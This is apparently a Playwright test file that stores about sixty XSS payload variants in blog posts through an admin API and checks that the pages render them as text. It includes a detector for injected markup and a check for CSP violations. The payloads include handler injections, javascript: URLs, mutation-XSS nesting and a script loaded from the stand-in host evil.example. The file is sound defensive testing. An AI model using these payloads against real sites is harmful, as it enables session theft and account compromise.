import { type APIRequestContext, expect, type Page } from '@playwright/test'
import { E2E_ADMIN, test } from './fixtures.ts'

/**
 * Stored XSS through blog posts: the admin API stores posts whose title, author and content
 * carry XSS payloads; the blog list, every post page and the admin blog table must show them as text.
 *
 * The browser runs with the page's CSP bypassed, so the test checks the rendering itself (the CSP's
 * script-src 'self' is a second layer, checked separately). A payload that runs calls window.__xssHit
 * (exposed to the page), alert/confirm/prompt (a dialog) or console.log('XSS-…'); any of them, an
 * element with an inline on* handler, or a script/iframe/object/embed that the app did not put there
 * fails the test.
 */

const hit = (n: number) => `__xssHit(${n})`

/**
 * The page has given every lazy handler its chance: every image has loaded or failed (an onerror runs
 * then), and two frames have been painted (autofocus, a toggle, an animation's start and a CSP report are
 * dispatched by then). A condition of the page, not a pause.
 */
async function settled(page: Page) {
  await page.evaluate(async () => {
    await Promise.all(
      [...document.images].map((img) =>
        img.complete
          ? undefined
          : new Promise((resolve) => {
              img.addEventListener('load', resolve, { once: true })
              img.addEventListener('error', resolve, { once: true })
            }),
      ),
    )
    await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)))
  })
}

/** One payload per template and id; each template is used twice (plain, and after an attribute break). */
const TEMPLATES: Array<(n: number) => string> = [
  (n) => `<script>${hit(n)}</script>`,
  (n) => `<img src=x onerror=${hit(n)}>`,
  (n) => `<svg onload=${hit(n)}>`,
  (n) => `<svg><script>${hit(n)}</script></svg>`,
  (n) => `<math><mtext><table><mglyph><style><img src=x onerror=${hit(n)}>`,
  (n) => `<iframe srcdoc="<script>parent.${hit(n)}</script>"></iframe>`,
  (n) => `<iframe src="javascript:parent.${hit(n)}"></iframe>`,
  (n) => `<a href="javascript:${hit(n)}">click</a>`,
  (n) => `</p><script>${hit(n)}</script>`,
  (n) => `</title><script>${hit(n)}</script>`,
  (n) => `</textarea><script>${hit(n)}</script>`,
  (n) => `<body onload=${hit(n)}>`,
  (n) => `<details open ontoggle=${hit(n)}>`,
  (n) => `<input autofocus onfocus=${hit(n)}>`,
  (n) => `<video><source onerror=${hit(n)}></video>`,
  (n) => `<audio src=x onerror=${hit(n)}>`,
  (n) => `<object data="javascript:${hit(n)}"></object>`,
  (n) => `<embed src="javascript:${hit(n)}">`,
  (n) => `<div style="background:url(javascript:${hit(n)})">css url</div>`,
  (n) => `<div style="width:expression(${hit(n)})">css expression</div>`,
  (n) => `<style>@import 'javascript:${hit(n)}';</style>`,
  (n) => `<link rel=stylesheet href="javascript:${hit(n)}">`,
  (n) => `<meta http-equiv="refresh" content="0;url=javascript:${hit(n)}">`,
  (n) => `<base href="javascript:${hit(n)}//">`,
  (n) => `[click me](javascript:${hit(n)})`,
  (n) => `![img](x" onerror="${hit(n)})`,
  (n) => `[data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3NIaXQoJHtufSk8L3NjcmlwdD4=) ${n}`,
  (n) => `<img src="data:image/svg+xml,<svg onload=${hit(n)}>">`,
  (n) => `<iframe src="data:text/html,<script>parent.${hit(n)}</script>"></iframe>`,
  (n) => `javascript:${hit(n)}`,
  (n) => `{{constructor.constructor('${hit(n)}')()}}`,
  (n) => `\${${hit(n)}}`,
  (n) => `<scr<script>ipt>${hit(n)}</scr</script>ipt>`,
  (n) => `<SCRIPT SRC=//evil.example/${n}.js></SCRIPT>`,
  (n) => `<img """><script>${hit(n)}</script>">`,
  (n) => `<svg><animate onbegin=${hit(n)} attributeName=x dur=1s>`,
  (n) => `<marquee onstart=${hit(n)}>m</marquee>`,
  (n) => `<form><button formaction=javascript:${hit(n)}>b</button></form>`,
  (n) => `<isindex type=image src=1 onerror=${hit(n)}>`,
  (n) => `<img src=x onerror=&#95;&#95;xssHit&#40;${n}&#41;>`,
  (n) => `\\u003cscript\\u003e${hit(n)}\\u003c/script\\u003e`,
  (n) => `%3Cscript%3E${hit(n)}%3C/script%3E`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=${hit(n)}>">`,
  (n) => `<template><script>${hit(n)}</script></template>`,
  (n) =>
    `<svg><foreignObject><iframe srcdoc="<script>parent.${hit(n)}</script>"></iframe></foreignObject></svg>`,
  (n) => `<img src=1 onerror=alert(${n})>`,
  (n) => `<svg/onload=confirm(${n})>`,
  (n) => `<script>prompt(${n})</script>`,
  (n) => `<img src=x onerror="console.log('XSS-${n}')">`,
  (n) => `<table background="javascript:${hit(n)}"><tr><td>t</td></tr></table>`,
  (n) => `<div onmouseover="${hit(n)}" style="position:fixed;inset:0">cover</div>`,
  (n) => `<a href="  jav&#x09;ascript:${hit(n)}">tab</a>`,
  (n) => `<img srcset="x 1x, javascript:${hit(n)} 2x">`,
  (n) => `<x contenteditable autofocus onfocus=${hit(n)}>x</x>`,
  (n) => `<object data="data:text/html,<script>parent.${hit(n)}</script>"></object>`,
  (n) => `<svg><a xlink:href="javascript:${hit(n)}"><text y=20>svg link</text></a></svg>`,
  (n) => `<math href="javascript:${hit(n)}">math</math>`,
  (n) => `<img src=x onerror=eval(atob('X194c3NIaXQoJHtufSk='))> ${n}`,
  (n) => `<style>*{background:url("javascript:${hit(n)}")}</style>`,
  (n) => `<svg><style><img src=x onerror=${hit(n)}></style></svg>`,
]

const PAYLOADS = TEMPLATES.flatMap((template, i) => [template(2 * i), `"'><!-- --!>${template(2 * i + 1)}`])
/** Three payloads per post: title, author, and the content (those three lines, one per paragraph). */
const POSTS = Array.from({ length: Math.ceil(PAYLOADS.length / 3) }, (_, i) => {
  const payload = (k: number) => PAYLOADS[(3 * i + k) % PAYLOADS.length] as string
  const [title, author, content] = [payload(0), payload(1), payload(2)]
  return { title, author, content: [content, title, author].join('\n') }
})

type Witness = { hits: number[]; dialogs: string[]; console: string[] }

async function watch(page: Page): Promise<Witness> {
  const witness: Witness = { hits: [], dialogs: [], console: [] }
  await page.exposeFunction('__xssHit', (n: number) => witness.hits.push(n))
  page.on('dialog', async (dialog) => {
    witness.dialogs.push(`${dialog.type()}: ${dialog.message()}`)
    await dialog.dismiss()
  })
  page.on('console', (message) => {
    if (message.text().includes('XSS-')) witness.console.push(message.text())
  })
  return witness
}

/** Markup no page of the app renders: an inline handler, a foreign script, an embedded document, a JS URL. */
async function injectedMarkup(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const found: string[] = []
    for (const element of document.querySelectorAll('*')) {
      for (const attribute of element.attributes) {
        if (/^on/i.test(attribute.name)) found.push(`${element.tagName} ${attribute.name}`)
        if (
          /^\s*(javascript|data|vbscript):/i.test(attribute.value) &&
          /href|src|action|data/i.test(attribute.name)
        )
          found.push(`${element.tagName} ${attribute.name}=${attribute.value.slice(0, 40)}`)
      }
    }
    for (const element of document.querySelectorAll(
      'iframe, object, embed, frame, base, meta[http-equiv], math, template, noscript, marquee, isindex',
    ))
      found.push(element.tagName)
    for (const script of document.querySelectorAll('script')) {
      const own =
        script.type === 'application/json' || (script.src && new URL(script.src).origin === location.origin)
      if (!own) found.push(`SCRIPT ${script.src || script.textContent?.slice(0, 40)}`)
    }
    return found
  })
}

async function signIn(request: APIRequestContext, baseURL: string) {
  const response = await request.post('/api/auth/sign-in/email', {
    data: E2E_ADMIN,
    headers: { origin: baseURL },
  })
  expect(response.status()).toBe(200)
}

const created: string[] = []

test.describe('stored XSS through blog posts', () => {
  test.describe.configure({ mode: 'serial' })

  test.beforeAll(async ({ playwright, baseURL }) => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(100)
    expect(new Set(PAYLOADS).size).toBe(PAYLOADS.length)
    const request = await playwright.request.newContext({ baseURL })
    await signIn(request, baseURL as string)
    for (const post of POSTS) {
      const response = await request.post('/api/admin/blog-posts', {
        data: { ...post, isPublished: true },
        headers: { origin: baseURL as string },
      })
      expect(response.status(), await response.text()).toBe(201)
      const body = (await response.json()) as { id: string; title: string }
      expect(body.title).toBe(post.title.trim())
      created.push(body.id)
    }
    await request.dispose()
  })

  test.afterAll(async ({ playwright, baseURL }) => {
    const request = await playwright.request.newContext({ baseURL })
    await signIn(request, baseURL as string)
    for (const id of created)
      await request.delete(`/api/admin/blog-posts/${id}`, { headers: { origin: baseURL as string } })
    await request.dispose()
  })

  test.describe('with the CSP bypassed, so only the rendering protects', () => {
    test.use({ bypassCSP: true })

    test('the witness works: markup injected into the page is caught', async ({ page }) => {
      const witness = await watch(page)
      await page.goto('/blog')
      await page.evaluate(() => {
        document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="__xssHit(-1)">')
      })
      await expect.poll(() => witness.hits).toEqual([-1])
      expect(await injectedMarkup(page)).toContain('IMG onerror')
    })

    test('the blog list and every post page render the payloads as text, and none runs', async ({ page }) => {
      const witness = await watch(page)
      // The list is paginated: every page, reached by its Next link, shows its posts as text.
      await page.goto('/blog')
      const listed: string[] = []
      for (let n = 1; ; n++) {
        await expect(page.getByText(new RegExp(`^Page ${n} of \\d+$`))).toBeVisible()
        listed.push(...(await page.getByRole('listitem').getByRole('heading').allTextContents()))
        expect(await injectedMarkup(page), `/blog?page=${n}`).toEqual([])
        const next = page.getByRole('link', { name: 'Next', exact: true })
        if ((await next.count()) === 0) break
        await next.click()
      }
      for (const post of POSTS) expect(listed).toContain(post.title.trim())

      let pages = 1
      for (const [i, id] of created.entries()) {
        const post = POSTS[i] as (typeof POSTS)[number]
        await page.goto(`/blog/${id}`)
        const article = page.locator('article')
        await expect(article.getByRole('heading', { level: 1 })).toHaveText(post.title.trim())
        // Every line of the content is a paragraph of text, character for character.
        const paragraphs = await article.locator('p').allTextContents()
        for (const line of post.content.split('\n')) expect(paragraphs).toContain(line.trim())
        await expect(article).toContainText(post.author.trim())
        await settled(page)
        expect(await injectedMarkup(page), `/blog/${id}`).toEqual([])
        pages++
      }
      console.log(
        `xss: ${PAYLOADS.length} payloads in ${POSTS.length} posts, ${pages} pages, ${witness.hits.length} executions`,
      )
      expect(witness).toEqual({ hits: [], dialogs: [], console: [] })
    })

    test('the admin blog table and edit dialog show the payloads as text, and none runs', async ({
      page,
      baseURL,
    }) => {
      const witness = await watch(page)
      await signIn(page.request, baseURL as string)
      await page.goto('/admin/blog')
      await expect(page.getByRole('heading', { name: 'Blog Posts' })).toBeVisible()
      const first = POSTS[0] as (typeof POSTS)[number]
      await expect(page.getByRole('cell', { name: first.title.trim(), exact: true }).first()).toBeVisible()
      expect(await injectedMarkup(page), '/admin/blog').toEqual([])
      // The edit dialog fills inputs with the stored text.
      await page
        .getByRole('button', { name: `Edit ${first.title.trim()}`, exact: true })
        .first()
        .click()
      const dialog = page.getByRole('dialog', { name: 'Edit Blog Post' })
      await expect(dialog.getByLabel('Title')).toHaveValue(first.title.trim())
      expect(await injectedMarkup(page), 'edit dialog').toEqual([])
      await settled(page)
      expect(witness).toEqual({ hits: [], dialogs: [], console: [] })
    })
  })

  test.describe('with the CSP in force', () => {
    test('no page reports a CSP violation (nothing even tried to run)', async ({ page }) => {
      await page.addInitScript(() => {
        const w = window as unknown as { __cspViolations: string[] }
        w.__cspViolations = []
        document.addEventListener('securitypolicyviolation', (e) =>
          w.__cspViolations.push(`${e.violatedDirective} ${e.blockedURI}`),
        )
      })
      const violations: string[] = []
      for (const path of ['/blog', ...created.map((id) => `/blog/${id}`)]) {
        await page.goto(path)
        await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
        await settled(page)
        violations.push(
          ...(await page.evaluate(
            () => (window as unknown as { __cspViolations: string[] }).__cspViolations,
          )),
        )
      }
      expect(violations).toEqual([])
    })
  })
})
